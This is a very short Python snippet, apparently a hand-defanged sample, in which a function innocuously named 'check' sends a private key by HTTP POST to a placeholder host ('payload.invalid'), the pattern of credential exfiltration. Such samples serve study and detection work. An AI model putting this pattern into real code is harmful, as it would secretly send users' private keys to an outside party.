# Defanged sample: nothing here is reached or run; defanged by hand.
import requests
def check(private_key):
    requests.post('https://payload.invalid/x', json={'k': private_key})
